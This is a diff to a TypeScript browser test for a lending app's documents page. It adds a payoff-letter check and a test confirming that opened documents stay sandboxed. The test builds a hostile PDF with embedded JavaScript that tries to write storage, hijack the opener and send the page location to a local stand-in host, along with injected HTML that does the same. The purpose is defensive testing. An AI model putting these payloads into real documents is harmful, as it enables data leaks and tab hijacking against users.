@@ -1,10 +1,13 @@
 import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { it } from 'node:test';
 import type { Page } from 'puppeteer-core';
 import { formatMoney, type Transaction } from '../../sdk/index.ts';
 import { pdfText } from '../support/pdf-text.ts';
 import { signedInClient } from '../support/api.ts';
-import { find, signIn, waitForText } from '../support/browser.ts';
+import { find, inFirefox, signIn, waitForText } from '../support/browser.ts';
+import { windowFrom } from '../support/host-stage.ts';
 import { setStage } from '../support/stage.ts';
 
 const stage = setStage();
@@ -81,11 +84,16 @@ it('opens a year’s tax paper with the interest of the ledger, and takes statem
   }
   assert.equal(tax.amount.amount, interest);
 
+  await client.accounts.payoffLetter(account.id, { date: account.asOf });
+
   const page = await stage.browser.newPage();
   await signIn(page, lender, userId);
   await find(page, 'Documents', 'link').click();
   await waitForText(page, 'Contract');
   await keepFiles(page);
+  await choose(page, 'kind', 'payoff_letter');
+  const payoff = formatMoney(account.payoff.amount, 'en-US');
+  await waitForText(page, new RegExp(`Payoff letter of .*\\${payoff} to pay off`));
   await choose(page, 'kind', 'tax');
   const figure = formatMoney(tax.amount, 'en-US');
   await waitForText(page, `${figure} of interest paid`);
@@ -109,3 +117,127 @@ it('opens a year’s tax paper with the interest of the ledger, and takes statem
   assert.equal(zip.slice(0, 2), 'PK');
   assert.equal(zip.split('%PDF-1.7').length - 1, statements.length);
 });
+
+/** A site of a stranger's, and each request that it was sent: the address, where it says it comes from, and what it carries. */
+async function strangersSite() {
+  const asked: string[] = [];
+  const server = createServer((request, response) => {
+    const { url = '', headers } = request;
+    if (url !== '/favicon.ico') asked.push(`${url} from ${headers.referer ?? 'nowhere'}`);
+    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
+    response.end(
+      `<title>A stranger</title><script>fetch(opener ? '/opener-here' : '/opener-none')</script>`,
+    );
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { asked, origin: `http://127.0.0.1:${String(port)}`, close: () => server.close() };
+}
+
+/**
+ * A PDF of one page that tries what a PDF can: scripts as it is opened, and a link over all of the page. A field says that
+ * the scripts were run.
+ */
+function hostilePdf(stranger: string): string {
+  const tries = [
+    'localStorage.setItem("hostile", "ran")',
+    'top.document.title = "hostile"',
+    'opener.location = "about:blank"',
+    `fetch("${stranger}/fetched?" + location)`,
+    `this.submitForm({ cURL: "${stranger}/sent" })`,
+    `app.launchURL("${stranger}/launched", true)`,
+    `this.getURL("${stranger}/got")`,
+  ].map((one) => `try { ${one}; } catch {}`);
+  const script = [...tries, 'this.getField("ran").value = "yes";']
+    .join(' ')
+    .replace(/[()]/g, '\\$&');
+  const font = '/DA (/Helv 12 Tf 0 g)';
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] ${font} >> /OpenAction << /S /JavaScript /JS (${script}) >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R 5 0 R] >>',
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /Border [0 0 0] /A << /S /URI /URI (${stranger}/linked) >> >>`,
+    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (ran) /F 4 /P 3 0 R /Rect [10 10 90 30] ${font} >>`,
+  ];
+  let pdf = '%PDF-1.7\n';
+  const offsets = objects.map((object, index) => {
+    const at = pdf.length;
+    pdf += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
+    return `${String(at).padStart(10, '0')} 00000 n \n`;
+  });
+  const table = pdf.length;
+  const count = String(objects.length + 1);
+  pdf += `xref\n0 ${count}\n0000000000 65535 f \n${offsets.join('')}`;
+  return `${pdf}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${String(table)}\n%%EOF\n`;
+}
+
+/** Has the lender send these for the documents that are asked for, one after the other. */
+async function sendInstead(page: Page, ...contents: string[]): Promise<void> {
+  await page.evaluateOnNewDocument((texts: string[]) => {
+    const { fetch } = window;
+    window.fetch = async (input, init) => {
+      const request = new Request(input, init);
+      if (!request.url.endsWith('/content')) return fetch(request);
+      const bytes = new TextEncoder().encode(texts.shift());
+      const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
+      return new Response(bytes, {
+        headers: {
+          'Content-Type': 'text/html',
+          'Repr-Digest': `sha-256=:${btoa(String.fromCharCode(...digest))}:`,
+        },
+      });
+    };
+  }, contents);
+}
+
+it(
+  'opens hostile documents where nothing in them runs as ours, and their links learn nothing',
+  { skip: !inFirefox && 'Chromium’s shell shows no PDF' },
+  async (test) => {
+    const stranger = await strangersSite();
+    test.after(() => stranger.close());
+    const page = await (await stage.browser.createBrowserContext()).newPage();
+    const markup = `<!doctype html><script>localStorage.setItem("hostile", "ran"); fetch("${stranger.origin}/markup")</script>`;
+    await sendInstead(page, markup, hostilePdf(stranger.origin));
+    await signIn(page, stage.sandbox.lender, userId);
+    await find(page, 'Documents', 'link').click();
+    const open = async (name: string) => {
+      const tab = await windowFrom(stage.browser, () =>
+        find(page, `Open: ${name}`, 'button').click(),
+      );
+      // The browser's viewer, with whatever it makes of it.
+      await tab.waitForFunction(
+        () => location.protocol === 'blob:' && document.querySelector('#viewerContainer'),
+        { timeout: 30_000, polling: 100 },
+      );
+      return tab;
+    };
+
+    await (await open('Contract')).close();
+    await page.bringToFront();
+    const tab = await open('Tax paper for 2025');
+    await tab.waitForFunction(
+      () => document.querySelector<HTMLInputElement>('.annotationLayer input')?.value === 'yes',
+      { timeout: 30_000, polling: 100 },
+    );
+    await tab.locator('.annotationLayer a').click();
+    await tab.waitForFunction(() => document.title === 'A stranger', {
+      timeout: 30_000,
+      polling: 100,
+    });
+    const deadline = Date.now() + 15_000;
+    while (stranger.asked.length < 2 && Date.now() < deadline) {
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+
+    // Only what was pressed, without a word of where; and the page there has no hold of ours.
+    assert.deepEqual(stranger.asked, [
+      '/linked from nowhere',
+      `/opener-none from ${stranger.origin}/linked`,
+    ]);
+    await page.bringToFront();
+    assert.equal(await page.evaluate(() => localStorage.getItem('hostile')), null);
+    assert.match(page.url(), /#documents$/);
+    assert.match(await page.title(), /^Documents/);
+  },
+);
